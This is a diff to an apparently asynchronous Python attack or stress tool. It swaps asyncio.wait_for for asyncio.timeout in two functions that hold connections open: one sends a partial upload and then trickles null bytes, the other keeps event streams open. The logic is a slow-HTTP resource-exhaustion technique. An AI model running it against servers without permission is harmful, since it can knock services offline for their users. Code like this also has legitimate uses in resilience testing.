@@ -208,7 +208,8 @@ async def half_sent_uploads(attack: Attack, go: Go) -> None:
             while left > 0 and not attack.over and not reader.at_eof():
                 writer.write(junk[: min(left, len(junk))])
                 left -= len(junk)
-                await asyncio.wait_for(writer.drain(), 30.0)
+                async with asyncio.timeout(30.0):
+                    await writer.drain()
             while not attack.over and not reader.at_eof() and not writer.is_closing():
                 writer.write(b"\0")
                 await asyncio.sleep(TRICKLE_S)
@@ -331,7 +332,9 @@ async def event_streams(attack: Attack, go: Go) -> None:
                 attack.answers[status] += 1
                 while status == "200" and not attack.over:
                     with contextlib.suppress(TimeoutError):
-                        if not await asyncio.wait_for(reader.read(65_536), TRICKLE_S):
+                        async with asyncio.timeout(TRICKLE_S):
+                            received = await reader.read(65_536)
+                        if not received:
                             break
                 writer.close()
             except (OSError, asyncio.IncompleteReadError) as error:
